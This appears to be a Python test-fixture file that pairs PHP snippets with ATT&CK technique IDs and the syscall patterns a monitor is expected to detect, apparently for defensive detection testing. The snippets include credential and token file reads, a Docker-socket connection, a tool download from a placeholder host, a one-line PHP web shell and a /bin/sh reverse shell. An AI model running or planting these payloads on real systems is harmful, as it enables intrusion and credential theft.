"""What code that a PHP page runs makes of it, without a shell."""

from attacks.inside import inside
from attacks.places import HOME, TOKEN
from node import OUTSIDE


def reads(path):
    return f"if (file_get_contents('{path}') === false) exit;"


ATTACKS = [
    inside("T1005", "the page reads the accounts", reads("/etc/passwd"), ("open", r"^/etc/passwd$")),
    inside("T1528", "the page reads the service account's token", reads(TOKEN), ("open", r"/token$")),
    inside(
        "T1552.001",
        "the page reads a cloud credential",
        reads(f"{HOME}/.aws/credentials"),
        ("open", r"/\.aws/credentials$"),
    ),
    inside(
        "T1552.007",
        "the page speaks to the engine's socket",
        "if (!stream_socket_client('unix:///run/docker.sock')) exit;",
        ("connect", r"/docker\.sock"),
    ),
    inside(
        "T1071.001",
        "the page connects to its master",
        f"if (!fsockopen('{OUTSIDE}', 443)) exit;",
        ("connect", r":443$"),
    ),
    inside(
        "T1105",
        "the page fetches a tool from the web",
        f"if (!copy('http://{OUTSIDE}/tool', '/tmp/tool')) exit;",
        ("open", r"^/tmp/tool$"),
        ("connect", r":80$"),
    ),
    inside(
        "T1571",
        "the page listens at a port of its own",
        "if (!stream_socket_server('tcp://0.0.0.0:4545')) exit;",
        ("listen", r":4545$"),
    ),
    inside(
        "T1505.003",
        "a web shell is laid among the pictures",
        "if (!file_put_contents('/var/lib/gallery/x.php', '<?php system($_GET[1]);')) exit;",
        ("open", r"/x\.php$"),
    ),
    inside(
        "T1074.001",
        "the page lays data down",
        "if (!file_put_contents('/tmp/.w', 'x')) exit;",
        ("open", r"^/tmp/\.w$"),
    ),
    inside(
        "T1059.004",
        "the page gives the attacker a shell",
        f"$s = fsockopen('{OUTSIDE}', 4444); if (!$s) exit;\n"
        "$p = proc_open(['/bin/sh'], [$s, $s, $s], $pipes); if (!$p) exit;",
        ("exec", r"/(dash|sh)$"),
        ("connect", r":4444$"),
    ),
]
